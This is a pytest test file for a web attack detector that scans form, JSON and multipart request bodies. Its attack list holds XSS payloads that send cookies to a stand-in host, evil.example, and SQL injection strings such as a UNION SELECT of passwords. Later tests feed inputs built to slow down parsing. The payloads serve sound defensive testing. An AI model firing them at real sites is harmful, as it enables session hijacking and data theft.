"""How many real texts are taken for attacks, and how many attacks for real texts, where they are sent in bodies."""

import importlib.util
import json
import time
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest

from eldonia_telemetry.security.body import MAX_BODY, MAX_FIELDS, account, fields, is_readable
from eldonia_telemetry.security.detection import inspect, inspect_fields


def load(name: str):
    spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name(f"{name}.py"))
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


NORMAL = load("corpus").NORMAL
known = load("test_detection")
ATTACKS = [
    *((text, "sql_injection") for text in known.SQL),
    *((text, "xss") for text in known.XSS),
    *((text, "path_traversal") for text in known.TRAVERSAL),
    # the same in the middle of what people write
    ("Nice work!\nThank you <script>new Image().src='//evil.example/?'+document.cookie</script> bye", "xss"),
    ("I like it.\n<img src=x onerror=fetch('//evil.example')>\nGreetings", "xss"),
    ("see <a href='javascript:alert(1)'>my page</a>\n" + "filler " * 100, "xss"),
    ("x' UNION SELECT email, password FROM accounts -- " + "padding " * 60, "sql_injection"),
    ("padding " * 60 + "' OR '1'='1", "sql_injection"),
]


def form(value: str):
    return fields(b"application/x-www-form-urlencoded", urlencode({"page": "2", "text": value}).encode())


def document(value: str):
    return fields(b"application/json", json.dumps({"order": {"items": [{"id": 1}, {"text": value}]}}).encode())


def multipart(value: str):
    body = (
        b"--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.sql\"\r\n\r\n' OR '1'='1\r\n"
        b'--xx\r\nContent-Disposition: form-data; name="text"\r\n\r\n' + value.encode() + b"\r\n--xx--\r\n"
    )
    return fields(b"multipart/form-data; boundary=xx", body)


@pytest.mark.parametrize("encode", [form, document, multipart])
def test_real_texts_pass(encode):
    taken = [(text, found) for text in NORMAL if (found := inspect_fields(encode(text))) is not None]
    assert taken == []


def test_real_texts_pass_in_a_query_but_for_whole_programs():
    lines = [text for text in NORMAL if "\n" not in text]
    taken = [text for text in lines if inspect("/search", urlencode({"q": text}).encode()) is not None]
    assert taken == []
    assert len(lines) > 60


@pytest.mark.parametrize("encode", [form, document, multipart])
@pytest.mark.parametrize(("text", "kind"), ATTACKS)
def test_attacks_do_not(encode, text, kind):
    found = inspect_fields(encode(text))
    assert found is not None
    assert found.kind == kind
    assert found.where.startswith("field ")


@pytest.mark.parametrize("encode", [form, document, multipart])
@pytest.mark.parametrize(("text", "kind"), [one for one in ATTACKS if len(one[0]) < 80])
def test_nor_when_they_are_escaped_once_more(encode, text, kind):
    found = inspect_fields(encode(quote(text, safe="")))
    assert found is not None
    assert found.kind == kind


def test_a_field_is_named_by_its_path():
    found = inspect_fields(document("' OR '1'='1"))
    assert found is not None
    assert found.where == "field order.items.1.text"


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        (b"application/json", b"{'no': json}"),
        (b"application/json", b"\xff\xfe"),
        (b"application/json", b"[" * 5000),
        (b"multipart/form-data", b"no boundary"),
        (b"multipart/form-data; boundary=x", b"--x"),
        (b"application/x-www-form-urlencoded", b"\xff%zz&=&&"),
    ],
)
def test_what_is_not_what_it_says_is_left_alone(kind, body):
    assert inspect_fields(fields(kind, body)) is None


@pytest.mark.parametrize("filler", ["a", '\\"', "{}[],:", "木"])
def test_what_hides_in_front_of_much_else_is_found(filler):
    body = json.dumps({"title": "x", "note": "' OR '1'='1", "rest": [filler * 100] * 400}).encode()
    assert len(body) > MAX_BODY
    found = inspect_fields(fields(b"application/json", body[:MAX_BODY]))
    assert found is not None
    assert found.where == "field note"
    innocent = json.dumps({"title": "O'Hara", "rest": [filler * 100] * 400}).encode()
    assert inspect_fields(fields(b"application/json", innocent[:MAX_BODY])) is None


@pytest.mark.parametrize("hostile", [b'"' * 20_000, b'"\\' * 8_000, b"[" * 20_000, b'{"a":' * 4_000, b'"\xff"' * 5_000])
def test_a_document_that_was_cut_off_takes_no_long_time(hostile):
    began = time.process_time()
    fields(b"application/json", hostile[:MAX_BODY])
    assert time.process_time() - began < 2  # square time takes minutes; a slow machine is none


def test_bounds():
    assert len(fields(b"application/json", json.dumps(["x"] * 5000).encode())) == MAX_FIELDS
    deep = json.loads("[" * 50 + '"x"' + "]" * 50)
    assert fields(b"application/json", json.dumps(deep).encode()) == []


@pytest.mark.parametrize(
    "part",
    [
        "'",
        "<",
        "`",
        "<a ",
        "a\n",
        "....//",
        "\\../",
        "<!%",
        "' and ",
        "sleep('",
        "select ",
        "<script ",
        '<img on"',
        "' || ",
        "1 and ",
        "'/*",
        "'/*!",
        "&#9;",
        "union(",
        "'and(((a(",
        "href=j a",
        "' x on",
        "@@ or ",
        "%25",
        "' and a(",
        "1 order by 1,",
    ],
)
@pytest.mark.parametrize("tail", ["", "'" + " " * 8000, "1" + "\t " * 4000, "<" + " " * 8000])
def test_no_text_takes_long(part, tail):
    hostile = part * (8000 // len(part)) + tail
    fields = [("long", hostile), *(("short", hostile[:299]) for _ in range(40))]
    began = time.process_time()
    inspect_fields(fields)
    inspect("/" + hostile, b"q=" + hostile.encode())
    assert time.process_time() - began < 0.25


@pytest.mark.parametrize(
    ("kind", "readable"),
    [
        (b"application/json; charset=utf-8", True),
        (b"application/vnd.api+json", True),
        (b"Application/X-WWW-Form-Urlencoded", True),
        (b"multipart/form-data; boundary=x", True),
        (b"image/png", False),
        (b"text/plain", False),
        (b"", False),
    ],
)
def test_bodies_that_have_fields(kind, readable):
    assert is_readable(kind) is readable


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ([("user.email", "a@example.com"), ("password", "x")], "a@example.com"),
        ([("name", "A"), ("username", "b")], "b"),
        ([("password", "x")], None),
        ([("login", "  ")], None),
    ],
)
def test_the_account_that_a_sign_in_names(given, expected):
    assert account(given) == expected
